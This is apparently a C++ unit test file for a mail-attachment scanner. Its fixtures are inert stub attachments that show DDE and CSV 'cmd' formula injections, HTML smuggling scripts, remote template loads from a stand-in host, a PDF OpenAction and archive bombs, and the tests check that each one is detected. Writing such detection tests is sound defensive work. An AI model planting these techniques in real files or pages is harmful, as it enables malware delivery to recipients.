#include <gtest/gtest.h>

#include <algorithm>
#include <vector>

#include "guards/mail/attachments/read_files.h"
#include "guards/mail/judge/judge.h"
#include "guards/mail/message/test_file.h"
#include "guards/mail/message/test_zip.h"

/// Inert files of the kinds that once passed: each must be named for what it can do.
namespace hygie::mail {
namespace {

using namespace std::string_literals;

std::string wrapped(std::string bytes, int times) {
    for (int i = 0; i < times; ++i) bytes = packed({{"a.zip", bytes}});
    return bytes;
}

std::string mail_with(const std::string& name) {
    return "From: a@b.example\nSubject: x\nMIME-Version: 1.0\n"
           "Content-Type: multipart/mixed; boundary=b\n\n--b\n\nvoir\n--b\n"
           "Content-Type: application/octet-stream; name=\"" +
           name + "\"\nContent-Disposition: attachment; filename=\"" + name +
           "\"\n\nvar x = 1;\n--b--\n";
}

std::string office(const Members& parts) {
    Members all = {{"[Content_Types].xml", "<Types/>"}};
    all.insert(all.end(), parts.begin(), parts.end());
    return packed(all);
}

std::string related(const std::string& kind, const std::string& target) {
    return office(
        {{"word/_rels/document.xml.rels", "<Relationship TargetMode=\"External\" Type=\"x/" + kind +
                                              "\" Target=\"" + target + "\"/>"}});
}

std::string ribbon(const std::string& attribute) {
    return office({{"customUI/customUI14.xml",
                    "<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" " +
                        attribute + "/>"}});
}

std::string open_document(const Members& parts) {
    Members all = {{"mimetype", "application/vnd.oasis.opendocument.text"}};
    all.insert(all.end(), parts.begin(), parts.end());
    return packed(all);
}

const std::string kOpens =
    "<script:event-listener script:event-name=\"dom:load\" "
    "xlink:href=\"vnd.sun.star.script:Standard.M.run?language=Basic&amp;location=document\"/>";

std::string pdf_opening(const std::string& action) {
    return "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<<" + action +
           ">>>>endobj\ntrailer<</Root 1 0 R>>\n";
}

const std::string kSmuggles =
    "<script>var b=new Blob([atob('x')]);a.href=URL.createObjectURL(b);a.download='f.zip';"
    "a.click()</script>";

struct Dropper {
    const char* name;
    std::string bytes;
    Capability capability;
};

std::vector<Dropper> droppers() {
    using enum Capability;
    std::string numbers = "1";
    for (int i = 0; i < 800; ++i) numbers += ",1";
    return {
        {"lettre.eml", mail_with("facture.js"), Script},
        {"a.ace", "x", ArchiveOdd},
        {"a.dat", "\x60\xEA"s + std::string(40, 'x'), ArchiveOdd},
        {"a.zip", wrapped(packed({{"facture.js", "x"}}), 6), ArchiveBomb},
        {"a.zip", std::string(300, 'x') + packed({{"facture.js", "x"}}), Script},
        {"a.rar", "Rar!\x1A\x07\x01\x00"s + "abcd" + "\x21\x04" + std::string(40, 'x'),
         ArchiveEncrypted},
        {"a.diagcab", "x", Executable},
        {"a.xlam", "x", Executable},
        {"a.ppam", "x", Executable},
        {"a.pyw", "x", Script},
        {"a.dqy", "x", Script},
        {"a.wsb", "<Configuration/>", Script},
        {"a.desktop", "[Desktop Entry]", Shortcut},
        {"a.themepack", "x", Shortcut},
        {"a.html",
         "<script>let b=new window['Bl'+'ob']([q]);location=URL['createO'+'bjectURL'](b)</script>",
         HtmlSmuggling},
        {"b.html", "<iframe src='data:application/zip;base64,UEs='></iframe>", HtmlSmuggling},
        {"c.html", "\x01\x02<html>" + kSmuggles, HtmlSmuggling},
        {"d.html", "GIF89a" + kSmuggles, HtmlSmuggling},
        {"e.html",
         "<script>document.write(new TextDecoder().decode(Uint8Array.from([" + numbers +
             "])))</script>",
         HtmlScript},
        {"f.html", "<img src=x onerror=\"eval(atob('YQ=='))\">", HtmlScript},
        {"g.html", "<script src='https://x.example/a.js'></script>", HtmlScript},
        {"h.html", "<iframe src='https://x.example/login'></iframe>", HtmlScript},
        {"i.html",
         "<form><input type=password><button formaction='https://x.example'>ok</button></form>",
         HtmlForm},
        {"a.mht", "MIME-Version: 1.0\nContent-Type: text/html\n\n" + kSmuggles + "\n",
         HtmlSmuggling},
        {"a.svg", "<!--" + std::string(3000, 'x') + "--><svg><script>x()</script></svg>",
         SvgScript},
        {"b.svg", "<svg><x:script xmlns:x='http://www.w3.org/2000/svg'>x()</x:script></svg>",
         SvgScript},
        {"a.docx", office({{"word/header1.xml", "<w:instrText>DDEAUTO c:\\x</w:instrText>"}}), Dde},
        {"b.docx",
         office({{"word/document.xml",
                  "<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x"
                  "</w:instrText>"}}),
         Dde},
        {"c.docx", office({{"word/document.xml", "<w:fldSimple w:instr=\"DDE c:\\x y\"/>"}}), Dde},
        {"d.docx", office({{"word/embeddings/facture.js", "x"}}), Script},
        {"e.docx", ribbon("onLoad=\"https://x.example/a.dotm!Module.run\""), ExternalTemplate},
        {"f.docx", related("image", "file://203.0.113.7/a.png"), ExternalTemplate},
        {"g.docx", related("image", "\\\\x.example@SSL\\a\\b.png"), ExternalTemplate},
        {"h.docx", related("attachedTemplate", "file:////x.example/a.dotm"), ExternalTemplate},
        {"a.odt", open_document({{"Scripts/python/a.py", "print(1)"}}), Macro},
        {"b.odt", open_document({{"content.xml", kOpens}}), MacroAutoRun},
        {"c.ods",
         open_document({{"content.xml", "<office:dde-source office:dde-application='cmd'/>"}}),
         Dde},
        {"d.odt",
         open_document(
             {{"content.xml", "<text:section-source xlink:href='https://x.example/a.odt'/>"}}),
         ExternalTemplate},
        {"e.odt",
         open_document({{"content.xml", "<draw:image xlink:href='file://x.example/a.png'/>"}}),
         ExternalTemplate},
        {"a.docm", packed({{"word/vbaProject.bin", "x"}, {"[Content_Types].xml", "<Types/>"}}),
         Macro},
        {"a.xlsx", office({{"xl/externalLinks/externalLink1.xml", "<ddeLink ddeService='cmd'/>"}}),
         Dde},
        {"a.csv", "a;b\n=cmd|'/C x'!A0;1\n", Dde},
        {"a.xml", "<?xml version='1.0'?><w:wordDocument w:macrosPresent=\"yes\"/>", Macro},
        {"a.doc", "  \n{\\rtf1{\\object\\objdata 0105}}", RtfObject},
        {"b.rtf", "{\\rtf1{\\*\\template \\u104\\u116}}", ExternalTemplate},
        {"c.rtf", "{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\x}}}", Dde},
        {"a.pdf", pdf_opening("/S/URI/URI(https://x.example/)"), PdfLaunch},
        {"b.pdf", pdf_opening("/S/GoToR/F(\\\\\\\\x.example\\\\a.pdf)/D[0/Fit]"), PdfLaunch},
    };
}

TEST(Droppers, EachIsNamedForWhatItCanDo) {
    for (const Dropper& row : droppers()) {
        const AttachmentFacts facts = read_files(with_file(row.name, row.bytes));
        EXPECT_TRUE(std::ranges::any_of(facts.files, [&](const FileFacts& file) {
            return file.has(row.capability);
        })) << row.name;
        EXPECT_FALSE(facts.crashed) << row.name;
    }
}

TEST(Droppers, EachIsFlaggedWhateverTheModelThinks) {
    const Scorer blind = [](const Message&, const Evidence&, std::span<const Signal>) {
        Opinion opinion;
        opinion.log_odds.fill(-9);
        return opinion;
    };
    for (const Dropper& row : droppers()) {
        if (row.capability == Capability::ArchiveEncrypted) continue;  // locked, and nothing more
        Message letter = with_file(row.name, row.bytes);
        letter.text = letter.plain = "Bonjour, voici le compte rendu. Bonne journée.";
        letter.from.push_back({"Marie Curie", "marie@labo.example"});
        EXPECT_NE(judge(letter, Envelope{}, History{}, blind).level, event::Level::Clean)
            << row.name;
    }
}

TEST(Droppers, WhatLooksLikeThemIsNone) {
    const std::vector<std::pair<const char*, std::string>> files = {
        {"message.eml", mail_with("notes.txt")},
        {"notes.txt", "Date: mardi\nLieu: salle 2\n"},
        {"a.csv", "nom;montant\nPetit;12\nRoy;-3\n"},
        {"a.docx", office({{"word/document.xml", "<w:instrText> PAGE </w:instrText>"},
                           {"word/embeddings/table.xlsx", office({{"xl/workbook.xml", "<x/>"}})}})},
        {"b.docx", related("image", "file:///C:/Users/accueil/logo.v2.png")},
        {"c.docx", related("image", "\\\\SERVEUR\\commun\\logo.png")},
        {"d.docx", related("image", "https://x.example/logo.png")},
        {"e.docx", ribbon("onLoad=\"Ruban.ouvert\"")},
        {"a.odt", open_document({{"content.xml",
                                  "<text:p>Bonjour</text:p><draw:image xlink:href="
                                  "'Pictures/a.png'/><draw:object xlink:href='./O 1'/>"},
                                 {"styles.xml", "<style:style/>"}})},
        {"a.pdf", pdf_opening("/S/GoTo/D[0/Fit]")},
        {"a.zip", wrapped(packed({{"notes.txt", "x"}}), 1)},
        {"page.html",
         "<p>" + std::string(40, ' ') +
             "Un rapport de quarante mots au moins, que chacun lit sans qu'il faille "
             "rien chercher ailleurs : il dit ce qui fut fait, ce qui reste à faire, "
             "qui le fera, et quand la prochaine réunion aura lieu, dans quelle salle, "
             "avec quels invités.</p><script src='https://cdn.example/menu.js'></script>"},
        {"plan.svg", "<svg xmlns='http://www.w3.org/2000/svg'><text>Plan</text></svg>"},
    };
    for (const auto& [name, bytes] : files)
        for (const FileFacts& file : read_files(with_file(name, bytes)).files)
            for (const FileFacts::Finding& one : file.findings)
                EXPECT_EQ(one.capability, Capability::ArchiveNested) << name << one.detail;
}

}  // namespace
}  // namespace hygie::mail
